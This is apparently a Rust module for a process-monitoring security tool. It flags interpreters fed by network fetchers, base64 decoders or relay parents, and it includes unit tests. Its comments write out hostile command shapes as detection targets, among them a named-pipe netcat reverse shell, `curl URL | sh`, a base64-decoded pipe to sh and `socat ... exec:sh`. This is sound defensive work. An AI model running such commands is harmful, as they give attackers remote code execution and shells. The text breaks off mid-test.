//! `curl URL | sh`: a shell or script interpreter that reads its program from a pipe while a
//! sibling process makes or accepts an internet connection. The two halves of a pipeline are
//! children of the same shell, started together, so they meet here in either order: the reader's
//! exec, or the fetcher's connection. The same shape is the named-pipe reverse shell
//! (`cat f | sh -i 2>&1 | nc HOST PORT >f`), and, with a decoder in the fetcher's place
//! (`echo <base64> | base64 -d | sh`), a payload hidden from whoever reads the command line.
//! Which process writes the pipe is not known (the kernel record carries the file type of
//! stdin, not its other end): a sibling started within a second of the reader (a pipeline's
//! members are forked back to back), which connects or decodes within seconds, is taken for it.
//! Two quick commands run one after the other can pass for a pipeline.
//!
//! The relay is the same reader fed by its parent instead of a sibling: a program that holds
//! a connection and starts a shell on a pipe or a socket pair (python's `subprocess.Popen(
//! ["/bin/sh"], stdin=PIPE)` pumping a socket, `socat tcp:H:P exec:sh`, an implant's `exec`
//! command). There the writer is known: the parent set the pipe up. It either connected
//! before it started the reader, or connects within the window after (socat opens its
//! addresses in the order given).
//!
//! Command substitution is the same download run without a file, in sequence instead of side
//! by side: `sh -c "$(curl URL)"` has the shell read curl's output from a pipe to its end, then
//! start an interpreter with it as its code argument. The fetcher is a child of the reader's
//! parent, started before it, whose stdout was a pipe, which made a connection within the
//! window, and which has exited.
//! A fetcher in a pipeline (`curl URL | jq`) writes into its sibling's pipe, not its parent's,
//! so a fetcher with a sibling started beside it on a pipe does not count. A script that
//! fetches into a variable (`v=$(curl API)`) and then runs a one-line `sh -c` would pass for
//! it, so only code of more than one line (or with a `#!` line) counts: a script.

use std::{
    collections::{HashMap, HashSet},
    sync::Arc,
    time::{Duration, Instant},
};

use crate::process::ProcessKey;

/// How far apart the reader's exec and the fetcher's connection may be.
const WINDOW: Duration = Duration::from_secs(10);
/// How far apart the reader's and the fetcher's starts may be: one pipeline.
const TOGETHER_NS: u64 = 1_000_000_000;
/// Parents remembered on each side before stale entries are dropped.
const MAX_PARENTS: usize = 4096;
/// Readers remembered per parent, waiting for a sibling or the parent to connect.
const MAX_READERS_PER_PARENT: usize = 64;
/// Live processes whose stdout is a pipe remembered (their exits remove them).
const MAX_PIPED_OUT: usize = 65536;

/// The code an interpreter is given in its arguments (`sh -c CODE`, `bash -lc CODE`, `python3
/// -c CODE`, `perl -e CODE`, `node --eval CODE`); `None` for anything else, and when an option
/// that takes a value comes first (`bash -o pipefail -c`: read as a script path).
pub(super) fn code_argument<'a>(exe: &str, args: &[&'a str]) -> Option<&'a str> {
    let name = exe.rsplit('/').next().unwrap_or(exe);
    let family = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let code_flags = match family {
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "mksh" | "ash" | "python" | "pypy" => "c",
        "perl" | "ruby" => "eE",
        "php" => "r",
        "node" => "ep",
        _ => return None,
    };
    let mut rest = args.iter();
    while let Some(a) = rest.next() {
        match *a {
            "--eval" | "--print" if family == "node" => return rest.next().copied(),
            "--" => return None,
            a if a.starts_with("--") => {}
            a if a.len() > 1 && a.starts_with('-') => {
                if a[1..].chars().any(|c| code_flags.contains(c)) {
                    return rest.next().copied();
                }
            }
            _ => return None,
        }
    }
    None
}

/// Whether a program, by its executable's name, reads a program from stdin when it is given no
/// script or code argument: shells and script interpreters (`python3.11` counts as python).
pub(super) fn reads_program_from_stdin(exe: &str, args: &[&str]) -> bool {
    let name = exe.rsplit('/').next().unwrap_or(exe);
    let family = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    // Short flags that say the program comes from an argument instead (`bash -lc`, `perl -e`).
    let code_flags = match family {
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "mksh" | "ash" => "c",
        "python" | "pypy" => "cm",
        "perl" | "ruby" | "php" | "node" => "eEr",
        _ => return false,
    };
    for a in args {
        match *a {
            "-" | "-s" => return true,
            "--" => continue,
            a if a.starts_with("--") => {
                if a == "--eval" || a == "--command" {
                    return false;
                }
            }
            a if a.starts_with('-') => {
                if a[1..].chars().any(|c| code_flags.contains(c)) {
                    return false;
                }
            }
            // A script path.
            _ => return false,
        }
    }
    true
}

/// Whether a program, by its executable's name and arguments, decodes an encoded input: base64
/// and its kin asked to decode, `xxd -r`, `openssl ... -d`, `uudecode`, or interpreter code
/// that calls a base64 decoder. Compressors are left out: `zcat x.gz | sh` is how some
/// installers ship, and compression hides nothing from a reader of the command line.
pub(super) fn decodes(exe: &str, args: &[&str]) -> bool {
    let name = exe.rsplit('/').next().unwrap_or(exe);
    let short = |a: &str, flag: char| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(flag);
    // Interpreters by family (`python3.11`); the tools by their own name, digits included.
    let family = match name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
        f @ ("python" | "pypy" | "perl" | "ruby" | "php" | "node") => f,
        _ => name,
    };
    match family {
        "base64" | "base32" | "basenc" => {
            args.iter().any(|a| *a == "--decode" || short(a, 'd') || *a == "-D")
        }
        // xxd's long options take one dash too (`-postscript`): only `-r` alone or bundled
        // with another letter (`-rp`).
        "xxd" => args.iter().any(|a| *a == "-revert" || (a.len() <= 3 && short(a, 'r'))),
        "openssl" => args.contains(&"-d"),
        "uudecode" => true,
        "python" | "pypy" | "perl" | "ruby" | "php" | "node" => args.iter().any(|a| {
            ["b64decode", "decodebytes", "decode_base64", "base64_decode", "decode64", "atob("]
                .iter()
                .any(|call| a.contains(call))
        }),
        _ => false,
    }
}

/// What feeds a reader's pipe.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Feed {
    /// A process that made or accepted an internet connection.
    Connection,
    /// A decoder whose stdout is a pipe.
    Decoder,
}

/// The process taken for the writer of a reader's pipe: it connected, or it decodes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Fetch {
    pub pid: u32,
    /// Its start (`ProcessKey::start_ns`).
    pub start_ns: u64,
    pub exe: Arc<str>,
    pub feed: Feed,
    /// Whether its stdout was a pipe (a decoder's always is): what its parent can capture.
    pub into_pipe: bool,
    /// Its parent's tgid (0 when unknown).
    pub parent: u32,
    /// Whether it made the connection rather than accepted it (a decoder: true), as a
    /// download does: a server a script started beside its commands only accepts.
    pub made: bool,
}

impl Fetch {
    pub fn describe(&self, reader: &str) -> String {
        let what = match self.feed {
            Feed::Connection => "made or accepted an internet connection",
            Feed::Decoder => "decodes an encoded input into a pipe",
        };
        format!(
            "{reader} reads its program from a pipe while {} (pid {}), started beside it, {what}",
            self.exe, self.pid
        )
    }

    /// The detail of a command substitution: `reader` runs as its code what this fetch wrote.
    pub fn describe_substituted(&self, reader: &str) -> String {
        // Only a fetcher that made its connection is taken for a substitution's.
        let what = match self.feed {
            Feed::Connection => "made an internet connection",
            Feed::Decoder => "decodes an encoded input",
        };
        format!(
            "{reader} runs a script given in its arguments, started after {} (pid {}), which {what}, wrote into a pipe its parent read",
            self.exe, self.pid
        )
    }
}

/// A reader waiting for its parent to connect.
struct RelayReader {
    reader: ProcessKey,
    exe: Arc<str>,
    /// What its stdin is: "pipe" or "socket pair".
    over: &'static str,
    /// The parent's start: a later process with the parent's pid is not the parent.
    parent_start_ns: u64,
    at: Instant,
}

#[derive(Default)]
pub(super) struct PipedWatch {
    /// Parent tgid -> readers started under it: (process, its exe, when).
    readers: HashMap<u32, Vec<(ProcessKey, Arc<str>, Instant)>>,
    /// Parent or grandparent tgid -> the last connection one of its children or grandchildren
    /// made (`timeout 5 curl URL | sh` puts curl a generation lower).
    fetches: HashMap<u32, (Fetch, Instant)>,
    /// Parent tgid -> readers it started before it made or accepted a connection.
    relays: HashMap<u32, Vec<RelayReader>>,
    /// Live processes whose stdout is a pipe: a fetcher among them can be read by its parent.
    piped_out: HashSet<ProcessKey>,
    /// Parent tgid -> the starts of its children exec'd with stdin a pipe, within the window:
    /// a pipeline's readers.
    pipe_readers: HashMap<u32, Vec<(u64, Instant)>>,
    /// Entries dropped while still fresh to stay bounded (parents within the window, live
    /// processes on a pipe); reported in status.
    pub forgotten: u64,
}

impl PipedWatch {
    /// `key`, a child of `parent`, exec'd with its stdin and its stdout a pipe or not.
    pub fn exec_stdio(&mut self, key: ProcessKey, parent: u32, stdin_pipe: bool, stdout_pipe: bool, now: Instant) {
        if stdin_pipe && parent != 0 {
            self.forgotten += remember(&mut self.pipe_readers, parent, (key.start_ns, now), now, |r| r.1);
        }
        if !stdout_pipe {
            self.piped_out.remove(&key);
            return;
        }
        // Exits lost with a ring's overflow would keep their entries: start again.
        if self.piped_out.len() >= MAX_PIPED_OUT {
            self.forgotten += self.piped_out.len() as u64;
            self.piped_out.clear();
        }
        self.piped_out.insert(key);
    }

    pub fn exited(&mut self, key: ProcessKey) {
        self.piped_out.remove(&key);
    }

    /// Whether `key`'s stdout was a pipe at its exec.
    pub fn stdout_piped(&self, key: ProcessKey) -> bool {
        self.piped_out.contains(&key)
    }

    /// An interpreter given a script as its code argument, started by `parent`: the fetch made
    /// into a pipe within the window by a child of the parent, started before the reader
    /// (`sh -c "$(curl URL)"`), or by a child of the reader's own process before this exec (a
    /// shell execs its last command without forking: `sh -c 'sh -c "$(curl URL)"'`). Not a
    /// grandchild's: that one's parent, not the reader's, read its pipe. And only a fetcher
    /// that has exited: the shell reads the substitution to its end before it runs anything,
    /// while a server that accepts, started beside a later command, is still there. A fetcher
    /// that only accepted (that server, done serving) is not one.
    pub fn substituted(&self, reader: ProcessKey, parent: u32, now: Instant) -> Option<Fetch> {
        let child_of = |who: u32| {
            let (fetch, at) = self.fetches.get(&who)?;
            (fetch.parent == who
                && now.saturating_duration_since(*at) <= WINDOW
                && fetch.into_pipe
                && fetch.made
                && fetch.pid != reader.tgid
                && !self.piped_out.contains(&ProcessKey::new(fetch.pid, fetch.start_ns))
                && !self.in_pipeline(fetch))
            .then_some(fetch)
        };
        child_of(reader.tgid)
            .or_else(|| child_of(parent).filter(|fetch| fetch.start_ns < reader.start_ns))
            .cloned()
    }

    /// Whether a sibling of `fetch` started beside it with its stdin a pipe: the fetch's
    /// output went down a pipeline, not to its parent.
    fn in_pipeline(&self, fetch: &Fetch) -> bool {
        self.pipe_readers.get(&fetch.parent).is_some_and(|readers| {
            readers.iter().any(|(start, _)| {
                *start != fetch.start_ns && start.abs_diff(fetch.start_ns) <= TOGETHER_NS
            })
        })
    }

    /// Whether `fetch`, found under `parent`, has exited with its output gone down a pipe to
    /// another reader `parent` started beside it: `nc HOST PORT | head -1` finished, and the
    /// script's next command, `python3 - <<EOF` (bash makes a small here-document a pipe), is
    /// not what nc fed. A fetcher still running may be feeding `reader` whatever else reads.
    fn fed_another(&self, fetch: &Fetch, parent: u32, reader: ProcessKey) -> bool {
        let exited = fetch.into_pipe && !self.piped_out.contains(&ProcessKey::new(fetch.pid, fetch.start_ns));
        exited
            && self.pipe_readers.get(&parent).is_some_and(|readers| {
                readers.iter().any(|(start, _)| {
                    *start != fetch.start_ns
                        && *start != reader.start_ns
                        && start.abs_diff(fetch.start_ns) <= TOGETHER_NS
                })
            })
    }

    /// A reader of its program from a pipe started under `parent`. Returns the fetch when a
    /// sibling already connected; otherwise the reader waits for one.
    pub fn reader(&mut self, key: ProcessKey, exe: Arc<str>, parent: u32, now: Instant) -> Option<Fetch> {
        if parent == 0 {
            return None;
        }
        if let Some((fetch, at)) = self.fetches.get(&parent)
            && now.saturating_duration_since(*at) <= WINDOW
            && fetch.start_ns.abs_diff(key.start_ns) <= TOGETHER_NS
            && !self.fed_another(fetch, parent, key)
        {
            return Some(fetch.clone());
        }
        self.forgotten += remember(&mut self.readers, parent, (key, exe, now), now, |r| r.2);
        None
    }

    /// `fetch` made or accepted an internet connection, or started decoding into a pipe;
    /// `parent` and `grandparent` are its ancestors' tgids (0 when unknown). Returns the
    /// waiting readers it completes, each once.
    pub fn fetched(
        &mut self,
        fetch: Fetch,
        parent: u32,
        grandparent: u32,
        now: Instant,
    ) -> Vec<(ProcessKey, Arc<str>, Fetch)> {
        let mut out = Vec::new();
        for ancestor in [parent, grandparent] {
            if ancestor == 0 {
                continue;
            }
            if let Some(waiting) = self.readers.remove(&ancestor) {
                // A reader that connects itself, or whose child does, is running the program it
                // read (`python3 - <<EOF` that opens a socket, `ssh host bash -s <script` whose
                // script runs curl), not being fed by the network.
                let (mine, others): (Vec<_>, Vec<_>) = waiting
                    .into_iter()
                    .partition(|(key, _, _)| key.tgid == parent || key.tgid == fetch.pid);
                if !mine.is_empty() {
                    self.readers.insert(ancestor, mine);
                }
                out.extend(
                    others
                        .into_iter()
                        .filter(|(key, _, at)| {
                            now.saturating_duration_since(*at) <= WINDOW
                                && fetch.start_ns.abs_diff(key.start_ns) <= TOGETHER_NS
                        })
                        .map(|(key, exe, _)| (key, exe, fetch.clone())),
                );
            }
            self.forgotten += prune(&mut self.fetches, now, |(_, at)| Some(*at));
            self.fetches.insert(ancestor, (fetch.clone(), now));
        }
        out
    }

    /// A reader started by `parent`, which has not connected (yet): waits the window for it.
    pub fn relay_reader(
        &mut self,
        reader: ProcessKey,
        exe: Arc<str>,
        over: &'static str,
        parent: ProcessKey,
        now: Instant,
    ) {
        if parent.tgid == 0 {
            return;
        }
        let reader = RelayReader {
            reader,
            exe,
            over,
            parent_start_ns: parent.start_ns,
            at: now,
        };
        // A parent that starts readers all day and never connects keeps only the window's.
        self.forgotten += remember(&mut self.relays, parent.tgid, reader, now, |r| r.at);
    }

    /// `parent` made or accepted an internet connection: the readers it started within the
    /// window before, each once.
    pub fn relay_connected(
        &mut self,
        parent: ProcessKey,
        now: Instant,
    ) -> Vec<(ProcessKey, Arc<str>, &'static str)> {
        let Some(waiting) = self.relays.remove(&parent.tgid) else {
            return Vec::new();
        };
        waiting
            .into_iter()
            .filter(|r| {
                r.parent_start_ns == parent.start_ns && now.saturating_duration_since(r.at) <= WINDOW
            })
            .map(|r| (r.reader, r.exe, r.over))
            .collect()
    }
}

/// The incident detail of a relay: `reader`, started by `parent` on a pipe or socket pair,
/// reads its program from it while that parent holds a connection.
pub(super) fn describe_relay(reader: &str, over: &str, parent: &str, parent_pid: u32) -> String {
    let parent = if parent.is_empty() { "a process" } else { parent };
    format!(
        "{reader} reads its program from a {over} set up by its parent {parent} (pid {parent_pid}), which made or accepted an internet connection"
    )
}

/// Adds `item` to `parent`'s list in `map`, keeping only the window's entries (`at` says when
/// each came) and at most [`MAX_READERS_PER_PARENT`]; returns how many fresh entries (or whole
/// parents, see [`prune`]) were dropped to stay bounded.
fn remember<V>(
    map: &mut HashMap<u32, Vec<V>>,
    parent: u32,
    item: V,
    now: Instant,
    at: impl Fn(&V) -> Instant,
) -> u64 {
    let mut dropped = prune(map, now, |v| v.last().map(&at));
    let list = map.entry(parent).or_default();
    list.retain(|r| now.saturating_duration_since(at(r)) <= WINDOW);
    if list.len() >= MAX_READERS_PER_PARENT {
        list.remove(0);
        dropped += 1;
    }
    list.push(item);
    dropped
}

/// Drops entries older than the window once a map reaches its bound, and everything when that
/// is not enough (a flood of pipelines); returns how many parents were dropped while fresh.
fn prune<V>(map: &mut HashMap<u32, V>, now: Instant, at: impl Fn(&V) -> Option<Instant>) -> u64 {
    if map.len() < MAX_PARENTS {
        return 0;
    }
    map.retain(|_, v| at(v).is_some_and(|t| now.saturating_duration_since(t) <= WINDOW));
    if map.len() < MAX_PARENTS {
        return 0;
    }
    let n = map.len() as u64;
    map.clear();
    n
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key(tgid: u32) -> ProcessKey {
        ProcessKey::new(tgid, u64::from(tgid) * 1000)
    }

    /// Started as close to `key(n)` as the pipeline's other members.
    fn fetch(pid: u32, exe: &str) -> Fetch {
        Fetch { pid, start_ns: u64::from(pid) * 1000, exe: exe.into(), feed: Feed::Connection, into_pipe: true, parent: 0, made: true }
    }

    #[test]
    fn readers_of_a_program_from_stdin() {
        for (exe, args) in [
            ("/usr/bin/sh", &[][..]),
            ("/bin/bash", &["-s", "--", "arg"][..]),
            ("/usr/bin/bash", &["-i"][..]),
            ("/usr/bin/dash", &["-e"][..]),
            ("/usr/bin/python3.11", &["-"][..]),
            ("/usr/bin/python3", &["-u"][..]),
            ("/usr/bin/perl", &[][..]),
        ] {
            assert!(reads_program_from_stdin(exe, args), "{exe} {args:?}");
        }
        for (exe, args) in [
            ("/usr/bin/bash", &["-c", "ls"][..]),
            ("/usr/bin/bash", &["-lc", "ls"][..]),
            ("/usr/bin/sh", &["./configure"][..]),
            ("/usr/bin/python3", &["-m", "pip"][..]),
            ("/usr/bin/python3", &["script.py"][..]),
            ("/usr/bin/perl", &["-le", "print 1"][..]),
            ("/usr/bin/node", &["--eval", "1"][..]),
            ("/usr/bin/cat", &[][..]),
            ("/usr/bin/bashful", &[][..]),
        ] {
            assert!(!reads_program_from_stdin(exe, args), "{exe} {args:?}");
        }
    }

    #[test]
    fn a_reader_and_a_fetching_sibling_meet_in_either_order() {
        let t0 = Instant::now();
        let mut w = PipedWatch::default();
        // The reader starts first and waits; curl, its sibling under 100, connects.
        assert_eq!(w.reader(key(11), "/usr/bin/sh".into(), 100, t0), None);
        let hits = w.fetched(fetch(10, "/usr/bin/curl"), 100, 1, t0 + Duration::from_secs(1));
        assert_eq!(hits.len(), 1);
        assert_eq!((hits[0].0, hits[0].2.pid), (key(11), 10));
        assert_eq!(
            hits[0].2.describe(&hits[0].1),
            "/usr/bin/sh reads its program from a pipe while /usr/bin/curl (pid 10), started beside it, made or accepted an internet connection"
        );
        // Once only.
        assert!(w.fetched(fetch(10, "/usr/bin/curl"), 100, 1, t0 + Duration::from_secs(2)).is_empty());
        // The fetcher connects first (wget under `timeout`, a generation lower), then the reader.
        assert!(w.fetched(fetch(20, "/usr/bin/wget"), 21, 200, t0).is_empty());
        assert_eq!(w.reader(key(22), "/usr/bin/bash".into(), 200, t0 + Duration::from_secs(3)), Some(fetch(20, "/usr/bin/wget")));
    }

    #[test]
    fn strangers_and_stale_halves_do_not_meet() {
        let t0 = Instant::now();
        let mut w = PipedWatch::default();
        assert_eq!(w.reader(key(11), "/usr/bin/sh".into(), 100, t0), None);
        // A connection under another parent.
        assert!(w.fetched(fetch(30, "/usr/bin/curl"), 300, 1, t0).is_empty());
        // A sibling connecting long after the reader started.
        assert!(w.fetched(fetch(12, "/usr/bin/curl"), 100, 1, t0 + WINDOW + Duration::from_secs(1)).is_empty());
        // A reader long after the connection.
        assert_eq!(w.reader(key(13), "/usr/bin/sh".into(), 100, t0 + 2 * WINDOW + Duration::from_secs(2)), None);
        // Unknown parents name nobody.
        assert_eq!(w.reader(key(14), "/usr/bin/sh".into(), 0, t0), None);
        // What the reader's own program runs does not feed it: curl under reader 41.
        let t1 = t0 + 3 * WINDOW;
        assert_eq!(w.reader(key(41), "/usr/bin/bash".into(), 400, t1), None);
        assert!(w.fetched(fetch(42, "/usr/bin/curl"), 41, 400, t1).is_empty());
        // A command started seconds apart is not the pipeline's other half, even under the same
        // parent and within the window (`curl API; ...; echo cmd | sh`).
        let later = ProcessKey::new(61, 5_000_000_000);
        assert_eq!(w.reader(later, "/usr/bin/sh".into(), 600, t1), None);
        assert!(w.fetched(fetch(62, "/usr/bin/curl"), 600, 1, t1).is_empty());
        assert!(w.fetched(fetch(63, "/usr/bin/curl"), 700, 1, t1).is_empty());
        assert_eq!(w.reader(ProcessKey::new(64, 3_000_000_000), "/usr/bin/sh".into(), 700, t1), None);
        // Nor does the reader's own connection (`python3 - <<EOF` that connects).
        assert_eq!(w.reader(key(51), "/usr/bin/python3".into(), 500, t1), None);
        assert!(w.fetched(fetch(51, "/usr/bin/python3"), 500, 1, t1).is_empty());
        // It still waits for a real sibling.
        assert_eq!(w.fetched(fetch(43, "/usr/bin/wget"), 400, 1, t1).len(), 1);
    }

    #[test]
    fn a_finished_fetch_that_fed_its_own_pipeline_does_not_feed_a_later_reader() {
        let t0 = Instant::now();
        let mut w = PipedWatch::default();
        // `timeout 3 nc HOST PORT | head -1` under script 100: nc (pid 10, under timeout 9)
        // writes into head (pid 11), connects and exits.
        let nc = ProcessKey::new(10, 10_000);
        w.exec_stdio(nc, 9, false, true, t0);
        w.exec_stdio(ProcessKey::new(11, 11_000), 100, true, false, t0);
        assert!(w.fetched(Fetch { parent: 9, ..fetch(10, "/usr/bin/nc") }, 9, 100, t0).is_empty());
        w.exited(nc);
        // Then `python3 - <<EOF`, a reader on a pipe under the same script, at once.
        let python = ProcessKey::new(12, 12_000);
        w.exec_stdio(python, 100, true, false, t0);
        assert_eq!(w.reader(python, "/usr/bin/python3".into(), 100, t0), None);
        // Still running, nc could be feeding it as well as head: a `tee` in the middle.
        let mut w = PipedWatch::default();
        w.exec_stdio(nc, 9, false, true, t0);
        w.exec_stdio(ProcessKey::new(11, 11_000), 100, true, false, t0);
        w.fetched(Fetch { parent: 9, ..fetch(10, "/usr/bin/nc") }, 9, 100, t0);
        w.exec_stdio(python, 100, true, false, t0);
        assert!(w.reader(python, "/usr/bin/python3".into(), 100, t0).is_some());
        // Finished, with no other reader beside it: it fed this one (a fast `curl URL | sh`).
        let mut w = PipedWatch::default();
        w.exec_stdio(nc, 9, false, true, t0);
        w.fetched(Fetch { parent: 9, ..fetch(10, "/usr/bin/curl") }, 9, 100, t0);
        w.exited(nc);
        w.exec_stdio(python, 100, true, false, t0);
        assert!(w.reader(python, "/usr/bin/sh".into(), 100, t0).is_some());
    }

    #[test]
    fn code_arguments_of_interpreters() {
        for (exe, args, code) in [
            ("/usr/bin/sh", &["-c", "id"][..], "id"),
            ("/bin/bash", &["-lc", "id", "name"][..], "id"),
            ("/usr/bin/python3.11", &["-u", "-c", "print(1)"][..], "print(1)"),
            ("/usr/bin/perl", &["-we", "print 1"][..], "print 1"),
            ("/usr/bin/node", &["--eval", "1"][..], "1"),
            ("/usr/bin/php", &["-r", "echo 1;"][..], "echo 1;"),
        ] {
            assert_eq!(code_argument(exe, args), Some(code), "{exe} {args:?}");
        }
        for (exe, args) in [
            ("/usr/bin/sh", &["script.sh", "-c"][..]),
            ("/usr/bin/bash", &[][..]),
            ("/usr/bin/python3", &["-m", "http.server"][..]),
            ("/usr/bin/sh", &["-c"][..]),
            ("/usr/bin/curl", &["-c", "jar"][..]),
        ] {
            assert_eq!(code_argument(exe, args), None, "{exe} {args:?}");
        }
    }

    #[test]
    fn a_script_substituted_from_a_finished_download_is_found_and_lookalikes_are_not() {
        let t0 = Instant::now();
        let later = |s| t0 + Duration::from_secs(s);
        let mut w = PipedWatch::default();
        // sh -c "$(curl URL)" under shell 100: curl (10) runs with its stdout a pipe, connects,
        // exits; then the shell starts sh (11).
        let curl = |pid, parent| Fetch { parent, ..fetch(pid, "/usr/bin/curl") };
        w.exec_stdio(key(10), 100, false, true, t0);
        assert!(w.fetched(curl(10, 100), 100, 1, t0).is_empty());
        assert_eq!(w.substituted(key(11), 100, t0), None, "curl still runs");
        w.exited(key(10));
        assert_eq!(w.substituted(key(11), 100, later(1)), Some(curl(10, 100)));
        // The shell execs the interpreter in its own place (same process, started before curl).
        let shell = ProcessKey::new(100, 5);
        assert_eq!(w.substituted(shell, 1, later(1)), Some(curl(10, 100)));
        // Past the window, nothing.
        assert_eq!(w.substituted(key(11), 100, later(1) + WINDOW), None);

        // `curl URL | jq` under 200: jq (21), started beside curl (20), reads the pipe.
        w.exec_stdio(key(20), 200, false, true, t0);
        w.exec_stdio(key(21), 200, true, false, t0);
        w.fetched(curl(20, 200), 200, 2, t0);
        w.exited(key(20));
        assert_eq!(w.substituted(key(25), 200, later(1)), None, "a pipeline's fetch");
        // A fetch that ran to its end: exec'd, connected, exited.
        let finished = |w: &mut PipedWatch, fetch: Fetch| {
            let (pid, parent) = (fetch.pid, fetch.parent);
            w.exec_stdio(key(pid), parent, false, fetch.into_pipe, t0);
            w.fetched(fetch, parent, parent / 100, t0);
            w.exited(key(pid));
        };
        // A grandchild's fetch was read by its own parent (300), not the reader's (3).
        finished(&mut w, curl(30, 300));
        assert_eq!(w.substituted(key(35), 3, later(1)), None, "a grandchild's fetch");
        assert!(w.substituted(key(35), 300, later(1)).is_some());
        // A fetch into a file or a terminal, and a server's accept, are not substitutions.
        finished(&mut w, Fetch { into_pipe: false, ..curl(40, 400) });
        assert_eq!(w.substituted(key(45), 400, later(1)), None, "stdout not a pipe");
        finished(&mut w, Fetch { made: false, ..curl(50, 500) });
        assert_eq!(w.substituted(key(55), 500, later(1)), None, "only accepted");
        // A reader started before the fetch did not run what it fetched.
        finished(&mut w, curl(60, 600));
        assert_eq!(w.substituted(key(59), 600, later(1)), None, "started before the fetch");
    }

    #[test]
    fn both_sides_are_bounded() {
        let t0 = Instant::now();
        let mut w = PipedWatch::default();
        for p in 1..=MAX_PARENTS as u32 {
            w.reader(key(p + 100_000), "/usr/bin/sh".into(), p, t0);
            w.fetched(fetch(p + 200_000, "/usr/bin/curl"), p + 300_000, 0, t0);
        }
        assert_eq!((w.readers.len(), w.fetches.len(), w.forgotten), (MAX_PARENTS, MAX_PARENTS, 0));
        // At the bound, stale entries go first.
        let later = t0 + WINDOW + Duration::from_secs(1);
        w.reader(key(1), "/usr/bin/sh".into(), 1_000_000, later);
        w.fetched(fetch(2, "/usr/bin/curl"), 1_000_001, 0, later);
        assert_eq!((w.readers.len(), w.fetches.len(), w.forgotten), (1, 1, 0), "stale entries went");
        // A flood of fresh ones is dropped whole, and counted.
        for p in 1..=MAX_PARENTS as u32 {
            w.reader(key(p + 400_000), "/usr/bin/sh".into(), p + 500_000, later);
        }
        assert!(w.readers.len() < MAX_PARENTS, "{}", w.readers.len());
        assert_eq!(w.forgotten, MAX_PARENTS as u64);
    }

    #[test]
    fn decoders_by_name_and_arguments() {
        for (exe, args) in [
            ("/usr/bin/base64", &["-d"][..]),
            ("/usr/bin/base64", &["--decode", "-w0"][..]),
            ("/usr/bin/base64", &["-di"][..]),
            ("/usr/bin/base32", &["-d"][..]),
            ("/usr/bin/basenc", &["--base64url", "-d"][..]),
            ("/usr/bin/xxd", &["-r", "-p"][..]),
            ("/usr/bin/xxd", &["-rp"][..]),
            ("/usr/bin/openssl", &["enc", "-d", "-base64"][..]),
            ("/usr/bin/openssl", &["base64", "-d"][..]),
            ("/usr/bin/uudecode", &["-o", "/dev/stdout"][..]),
            ("/usr/bin/python3.11", &["-c", "import base64,sys;sys.stdout.write(base64.b64decode('ZWNobw==').decode())"][..]),
            ("/usr/bin/perl", &["-MMIME::Base64", "-e", "print decode_base64('ZWNobw==')"][..]),
        ] {
            assert!(decodes(exe, args), "{exe} {args:?}");
        }
        for (exe, args) in [
            ("/usr/bin/base64", &[][..]),
            ("/usr/bin/base64", &["-w", "0"][..]),
            ("/usr/bin/xxd", &["-p"][..]),
            ("/usr/bin/xxd", &["-postscript"][..]),
            ("/usr/bin/openssl", &["enc", "-e", "-base64"][..]),
            ("/usr/bin/gzip", &["-d"][..]),
            ("/usr/bin/python3", &["-c", "print('hi')"][..]),
            ("/usr/bin/cat", &["-d"][..]),
            ("/usr/bin/base", &["-d"][..]),
        ] {
            assert!(!decodes(exe, args), "{exe} {args:?}");
        }
    }

    #[test]
    fn a_decoder_feeds_a_reader_like_a_fetcher() {
        let t0 = Instant::now();
        let mut w = PipedWatch::default();
        let decoder = |pid| Fetch { feed: Feed::Decoder, ..fetch(pid, "/usr/bin/base64") };
        assert_eq!(w.reader(key(11), "/usr/bin/bash".into(), 100, t0), None);
        let hits = w.fetched(decoder(10), 100, 1, t0);
        assert_eq!(hits.len(), 1);
        assert_eq!(
            hits[0].2.describe(&hits[0].1),
            "/usr/bin/bash reads its program from a pipe while /usr/bin/base64 (pid 10), started beside it, decodes an encoded input into a pipe"
        );
        // The decoder first, then the reader.
        assert!(w.fetched(decoder(20), 200, 1, t0).is_empty());
        assert_eq!(w.reader(key(21), "/usr/bin/sh".into(), 200, t0), Some(decoder(20)));
    }

    #[test]
    fn a_relay_that_connects_after_starting_its_shell_completes_it_once() {
        let t0 = Instant::now();
        let mut w = PipedWatch::default();
        let (socat, sh) = (key(100), key(101));
        w.relay_reader(sh, "/usr/bin/sh".into(), "socket pair", socat, t0);
        // Another process's connection, and one by an earlier process with the parent's pid.
        assert!(w.relay_connected(key(200), t0).is_empty());
        assert!(w.relay_connected(ProcessKey::new(100, 1), t0).is_empty());
        // Gone with that stale lookup: a relay is one parent, and its pid is now someone else's.
        w.relay_reader(sh, "/usr/bin/sh".into(), "socket pair", socat, t0);
        assert_eq!(
            w.relay_connected(socat, t0 + Duration::from_secs(2)),
            vec![(sh, Arc::from("/usr/bin/sh"), "socket pair")]
        );
        assert!(w.relay_connected(socat, t0 + Duration::from_secs(3)).is_empty(), "once");
        // A connection long after the reader started is not what it was started for.
        w.relay_reader(key(301), "/usr/bin/bash".into(), "pipe", key(300), t0);
        assert!(w.relay_connected(key(300), t0 + WINDOW + Duration::from_secs(1)).is_empty());
        // Unknown parents name nobody.
        w.relay_reader(key(401), "/usr/bin/bash".into(), "pipe", ProcessKey::new(0, 0), t0);
        assert!(w.relays.is_empty());
    }

    #[test]
    fn relays_are_described_by_their_parent() {
        assert_eq!(
            describe_relay("/usr/bin/dash", "pipe", "/usr/bin/python3.11", 42),
            "/usr/bin/dash reads its program from a pipe set up by its parent /usr/bin/python3.11 (pid 42), which made or accepted an internet connection"
        );
        assert!(describe_relay("/usr/bin/sh", "socket pair", "", 7).contains("by its parent a process (pid 7)"));
    }

    #[test]
    fn relay_readers_are_bounded_per_parent_too() {
        let t0 = Instant::now();
        let mut w = PipedWatch::default();
        let parent = key(7);
        for r in 0..MAX_READERS_PER_PARENT as u32 + 10 {
            w.relay_reader(key(r + 100), "/usr/bin/sh".into(), "pipe", parent, t0);
        }
        assert_eq!(w.relays[&7].len(), MAX_READERS_PER_PARENT);
        assert_eq!(w.forgotten, 10);
        // Stale ones go when the next arrives.
